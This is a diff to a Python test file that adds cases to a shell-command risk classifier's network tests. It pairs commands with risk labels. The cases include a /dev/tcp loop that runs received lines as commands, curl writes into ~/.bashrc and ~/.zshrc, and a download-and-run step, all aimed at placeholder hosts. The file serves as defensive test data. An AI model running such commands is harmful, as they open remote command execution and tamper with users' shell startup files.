@@ -88,6 +88,10 @@ SAFE, CAUTION, DANGEROUS, CRITICAL = Risk
         ("exec 5<>/dev/tcp/10.0.0.1/80; cat <&5 | while read l; do $l; done", CRITICAL),
         ("curl https://x.example -o ~/.bashrc", CRITICAL),
         ("curl https://x.example >> ~/.zshrc", CRITICAL),
+        ("curl -fsSL https://x.example/gpg | gpg --dearmor -o key.gpg", SAFE),
+        ("curl -O https://x.example/tool && ./tool", CRITICAL),
+        ("sudo curl -L https://x.example/t -o /usr/local/bin/t", DANGEROUS),
+        ("wget https://x.example/python && python x.py", SAFE),
     ],
 )
 def test_network(command: str, risk: Risk) -> None:
